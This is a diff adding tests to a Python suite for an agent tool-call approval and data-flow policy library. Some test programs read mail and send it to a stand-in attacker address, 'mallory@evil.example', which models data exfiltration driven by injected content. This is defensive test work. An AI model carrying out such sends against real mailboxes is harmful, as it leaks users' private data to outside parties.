@@ -5,6 +5,7 @@ from __future__ import annotations
 import base64
 from collections.abc import AsyncGenerator, AsyncIterator, Sequence
 from contextlib import asynccontextmanager
+from dataclasses import replace
 from typing import Any
 
 import pytest
@@ -13,7 +14,7 @@ from corral import ApprovalRequest, Approved, Corral, Denied, ExecutionContext, 
 from corral.ledger import MemoryLedger
 from corral.policy import Policy
 from corral.policy.flow import LOST, DataFlow, ProgramFlow, _Words  # pyright: ignore[reportPrivateUsage]
-from corral.types import Decision, Language, References
+from corral.types import TRANSCRIPT, Decision, Doubt, Language, References, Transcript
 
 pytestmark = pytest.mark.anyio
 
@@ -535,6 +536,54 @@ async def test_a_resumed_program_is_as_exposed_as_before() -> None:
         await corral.execute("return await tools.send({to: 'mallory@evil.example'})", context=ME)
     assert sent.to == []
     assert sent.requests[0].seen == ("read_mail",)  # its state is in the ledger
+
+
+@pytest.mark.matrix("a destination is allowed for a session by `approve` in the gate; here by a decision in the ledger")
+async def test_a_recorded_decision_allows_a_destination_for_the_session() -> None:
+    sent = Sent()
+    source = "const mail = await tools.read_mail(); return await tools.send({to: mail[0].split(' ')[4].slice(0, -1)})"
+    async with sent.corral(ledger=MemoryLedger()) as corral:
+        result = await corral.execute(source, context=ME, durable=True, approve=_later)
+        await corral.executions.settle(result.execution_id, {2: Approved(for_session=True)})
+        assert (await corral.executions.resume(result.execution_id)).value == "sent"
+        await corral.execute("return await tools.send({to: 'mallory@evil.example'})", context=ME)
+    assert sent.to == ["mallory@evil.example"] * 2
+    assert sent.requests == []
+
+
+@pytest.mark.parametrize("session_id", ["s", None])
+def test_the_model_has_read_what_other_tools_returned_to_it(session_id: str | None) -> None:
+    def begun(read: str, *asked: str) -> ProgramFlow:
+        local = {TRANSCRIPT: lambda: Transcript(asked=asked, read=(read,))}
+        context = ExecutionContext(user_id="user", session_id=session_id, local=local)
+        return Flow(asked=()).begin("send('new@other.example')", context)
+
+    assert [*begun("web_search").seen.exposed] == ["web_search"]
+    assert begun("contacts").is_clean, "a file says that its results are trusted"
+    assert [*begun("contacts", "first", "second").seen.exposed] == [LOST]
+    assert begun("contacts", "write to Bob").seen.persons.say("bob")
+
+
+def test_a_digest_is_of_all_that_a_person_is_shown() -> None:
+    request = ApprovalRequest(
+        tool="send",
+        input={},
+        arguments={"to": "a"},
+        description="",
+        read_only=False,
+        context=ME,
+        execution_id="e",
+        sequence=1,
+    )
+    others = [
+        replace(request, tool="send2"),
+        replace(request, arguments={"to": "b"}),
+        replace(request, doubts=(Doubt(text="x"),)),
+        replace(request, seen=("read_mail",)),
+        replace(request, reason="uncertain"),
+    ]
+    assert replace(request, sequence=2, execution_id="f").digest == request.digest
+    assert len({each.digest for each in (request, *others)}) == 6
 
 
 def _later(_: ApprovalRequest) -> Later:
